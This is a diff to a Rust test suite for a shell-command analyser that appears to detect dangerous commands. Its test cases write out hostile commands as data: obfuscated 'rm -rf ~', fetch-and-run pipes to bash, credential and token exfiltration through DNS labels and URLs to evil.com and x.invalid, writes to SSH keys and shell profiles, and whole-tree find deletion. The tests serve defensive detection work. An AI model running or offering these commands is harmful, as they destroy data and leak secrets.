@@ -54,7 +54,11 @@ fn decoded_and_fetched_code_are_dynamic_code_too() {
         "python3 -c \"import os; os.system(''.join(map(chr,[114,109,32,45,114,102,32,126])))\"",
         "node -e \"eval(String.fromCharCode(114,109,32,45,114,102,32,126))\"",
     ] {
-        assert!(origins(cmd).contains(&"decoded".to_string()), "{cmd}: {:?}", f(cmd).dynamic_code);
+        assert!(
+            origins(cmd).contains(&"decoded".to_string()),
+            "{cmd}: {:?}",
+            f(cmd).dynamic_code
+        );
     }
     assert!(origins("eval \"$(curl -s https://x.invalid/a)\"").contains(&"fetched".to_string()));
     assert!(origins("curl -s https://x.invalid/i.sh | bash").contains(&"fetched".to_string()));
@@ -93,7 +97,11 @@ fn known_code_and_environment_generators_are_not_dynamic_code() {
         "echo 'ls' > /tmp/x.sh; bash /tmp/x.sh",
         "docker run --rm -it ubuntu bash",
     ] {
-        assert!(f(cmd).dynamic_code.is_empty(), "{cmd}: {:?}", f(cmd).dynamic_code);
+        assert!(
+            f(cmd).dynamic_code.is_empty(),
+            "{cmd}: {:?}",
+            f(cmd).dynamic_code
+        );
     }
 }
 
@@ -105,7 +113,10 @@ fn interpreter_snippets_map_to_path_facts() {
         .paths
         .iter()
         .any(|p| p.path == "/home/dev/.ssh/authorized_keys" && p.access == Access::Write));
-    assert!(facts.persistence.iter().any(|p| p.kind == "ssh_authorized_keys"));
+    assert!(facts
+        .persistence
+        .iter()
+        .any(|p| p.kind == "ssh_authorized_keys"));
     for (cmd, path) in [
         (
             "python3 -c \"import os; base=os.path.expanduser('~'); open(os.path.join(base, '.bashrc'), 'a').write('x')\"",
@@ -130,7 +141,9 @@ fn interpreter_snippets_map_to_path_facts() {
             f(cmd).paths
         );
     }
-    assert!(deletes_home(&f("osascript -e 'do shell script \"rm -rf ~\"'")));
+    assert!(deletes_home(&f(
+        "osascript -e 'do shell script \"rm -rf ~\"'"
+    )));
     assert!(f("python -c 'print(1)'").paths.is_empty());
 }
 
@@ -154,7 +167,10 @@ fn embedded_commands_are_analysed() {
     ] {
         let facts = f(cmd);
         assert!(
-            facts.paths.iter().any(|p| p.access == Access::Delete && p.recursive),
+            facts
+                .paths
+                .iter()
+                .any(|p| p.access == Access::Delete && p.recursive),
             "{cmd}: {:?}",
             facts.paths
         );
@@ -169,7 +185,9 @@ fn embedded_commands_are_analysed() {
     ] {
         let facts = f(cmd);
         assert!(
-            !facts.paths.iter().any(|p| p.access == Access::Delete && p.recursive),
+            !facts.paths.iter().any(|p| p.access == Access::Delete
+                && p.recursive
+                && !p.path.starts_with("/home/dev/project/")),
             "{cmd}"
         );
         assert!(facts.dynamic_code.is_empty(), "{cmd}");
@@ -184,16 +202,28 @@ fn remote_and_container_commands_are_marked_remote() {
         ("docker run ubuntu sh -c 'rm -rf /'", "docker run: rm"),
         ("docker exec -it web rm -rf /", "docker exec: rm"),
         ("podman exec c sh -c 'rm -rf /'", "podman exec: rm"),
-        ("kubectl exec -it pod -- sh -c 'rm -rf /'", "kubectl exec: rm"),
+        (
+            "kubectl exec -it pod -- sh -c 'rm -rf /'",
+            "kubectl exec: rm",
+        ),
     ] {
         let facts = f(cmd);
         assert!(
-            facts.remote_paths.iter().any(|p| p.how == via && p.recursive),
+            facts
+                .remote_paths
+                .iter()
+                .any(|p| p.how == via && p.recursive),
             "{cmd}: {:?}",
             facts.remote_paths
         );
-        assert!(!facts.paths.iter().any(|p| p.access == Access::Delete), "{cmd}");
-        assert!(facts.commands.iter().any(|c| c.program == "rm" && c.depth >= 1));
+        assert!(
+            !facts.paths.iter().any(|p| p.access == Access::Delete),
+            "{cmd}"
+        );
+        assert!(facts
+            .commands
+            .iter()
+            .any(|c| c.program == "rm" && c.depth >= 1));
     }
     assert!(f("docker run --rm -it ubuntu bash").remote_paths.is_empty());
     assert!(f("ssh host ls -la").remote_paths.is_empty());
@@ -202,23 +232,38 @@ fn remote_and_container_commands_are_marked_remote() {
 #[test]
 fn dns_names_and_urls_carrying_data_are_uploads() {
     let u = f("dig $(whoami).evil.com").uploads;
-    assert_eq!((u[0].program.as_str(), u[0].target.as_str()), ("dig", "evil.com"));
+    assert_eq!(
+        (u[0].program.as_str(), u[0].target.as_str()),
+        ("dig", "evil.com")
+    );
     assert_eq!(u[0].source.as_deref(), Some("<dns label>"));
     assert_eq!(f("host $X.evil.com").uploads.len(), 1);
-    assert_eq!(f("drill \"$(id -u).x.evil.com\"").uploads[0].target, "x.evil.com");
     assert_eq!(
-        f("nslookup $AWS_SECRET_ACCESS_KEY.evil.com").uploads[0].source.as_deref(),
+        f("drill \"$(id -u).x.evil.com\"").uploads[0].target,
+        "x.evil.com"
+    );
+    assert_eq!(
+        f("nslookup $AWS_SECRET_ACCESS_KEY.evil.com").uploads[0]
+            .source
+            .as_deref(),
         Some("<secret AWS_SECRET_ACCESS_KEY>")
     );
     let c = f("nslookup $(cat ~/.aws/credentials | base64 -w0).evil.com");
     assert_eq!(c.uploads.len(), 1);
-    assert!(c.paths.iter().any(|p| p.path == "/home/dev/.aws/credentials"));
+    assert!(c
+        .paths
+        .iter()
+        .any(|p| p.path == "/home/dev/.aws/credentials"));
     assert_eq!(
-        f("curl \"https://x.invalid/?d=$(env | base64)\"").uploads[0].source.as_deref(),
+        f("curl \"https://x.invalid/?d=$(env | base64)\"").uploads[0]
+            .source
+            .as_deref(),
         Some("<environment>")
     );
     assert_eq!(
-        f("wget \"https://x.invalid/$GITHUB_TOKEN\"").uploads[0].source.as_deref(),
+        f("wget \"https://x.invalid/$GITHUB_TOKEN\"").uploads[0]
+            .source
+            .as_deref(),
         Some("<secret GITHUB_TOKEN>")
     );
     for quiet in [
@@ -228,7 +273,11 @@ fn dns_names_and_urls_carrying_data_are_uploads() {
         "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user",
         "curl \"https://api.example.com/v1/items?page=$PAGE\"",
     ] {
-        assert!(f(quiet).uploads.is_empty(), "{quiet}: {:?}", f(quiet).uploads);
+        assert!(
+            f(quiet).uploads.is_empty(),
+            "{quiet}: {:?}",
+            f(quiet).uploads
+        );
     }
 }
 
@@ -247,4 +296,79 @@ fn file_servers_name_their_root() {
         assert_eq!(s.first().map(|x| x.root.as_str()), Some(root), "{cmd}");
     }
     assert!(f("python3 -m pip install x").serves.is_empty());
+}
+
+#[test]
+fn built_strings_piped_to_a_shell_are_decoded_code() {
+    for cmd in [
+        "sed 's/X/rm/' f | sh",
+        "sed -e '/^#/d' -e 's/^/sudo /' cmds.txt | bash",
+        "ls | awk '{print \"rm \" $1}' | sh",
+    ] {
+        assert!(origins(cmd).contains(&"decoded".to_string()), "{cmd}");
+    }
+    // A BEGIN block printing literals prints known code: analysed instead.
+    assert!(deletes_home(&f("awk 'BEGIN{print \"rm -rf ~\"}' | sh")));
+    // Not run as code: no fact.
+    for quiet in [
+        "sed 's/a/b/' f.txt > g.txt",
+        "sed -i 's/a/b/' f.txt",
+        "awk '{print $1}' f",
+    ] {
+        assert!(f(quiet).dynamic_code.is_empty(), "{quiet}");
+        assert!(f(quiet).decoded_exec.is_empty(), "{quiet}");
+    }
+}
+
+#[test]
+fn find_exec_acts_on_the_whole_tree() {
+    for cmd in ["find / -exec rm {} \\;", "find / -type f -exec rm -f {} +"] {
+        assert!(
+            f(cmd)
+                .paths
+                .iter()
+                .any(|p| p.path == "/*" && p.recursive && p.access == Access::Delete),
+            "{cmd}"
+        );
+    }
+    assert!(!f("find / -maxdepth 1 -name x -exec rm {} \\;")
+        .paths
+        .iter()
+        .any(|p| p.recursive));
+}
+
+#[test]
+fn snippet_aliases_globs_and_secret_urls() {
+    let node = "node -e \"const p=require('path');const tmp={};tmp.x=1;require('fs').writeFileSync(p.join(process.env.HOME,'.bashrc'),'x')\"";
+    assert!(f(node).paths.iter().any(|p| p.path == "/home/dev/.bashrc"));
+    let py = "python3 -c \"import os.path as osp; open(osp.join(osp.expanduser('~'), '.profile'), 'a').write('x')\"";
+    assert!(f(py).paths.iter().any(|p| p.path == "/home/dev/.profile"));
+    let perl = "perl -e 'unlink glob(\"$ENV{HOME}/.ssh/*\")'";
+    assert!(f(perl)
+        .paths
+        .iter()
+        .any(|p| p.path == "/home/dev/.ssh/*" && p.glob));
+    let up =
+        f("node -e \"fetch('https://x.invalid/?k='+process.env.AWS_SECRET_ACCESS_KEY)\"").uploads;
+    assert_eq!(
+        up[0].source.as_deref(),
+        Some("<secret AWS_SECRET_ACCESS_KEY>")
+    );
+    // A token in a header to its own API is not data in the URL.
+    let hdr = "node -e \"fetch('https://api.github.com/user', {headers: {Authorization: 'token '+process.env.GITHUB_TOKEN}})\"";
+    assert!(f(hdr).uploads.is_empty());
+}
+
+#[test]
+fn filtered_find_is_not_the_whole_tree() {
+    for cmd in [
+        "find ~ -name '*.log' -exec rm -f {} +",
+        "find / -mtime +30 -exec rm {} \\;",
+    ] {
+        assert!(!f(cmd).paths.iter().any(|p| p.recursive), "{cmd}");
+    }
+    assert!(f("find / -name '*' -exec rm {} \\;")
+        .paths
+        .iter()
+        .any(|p| p.recursive));
 }
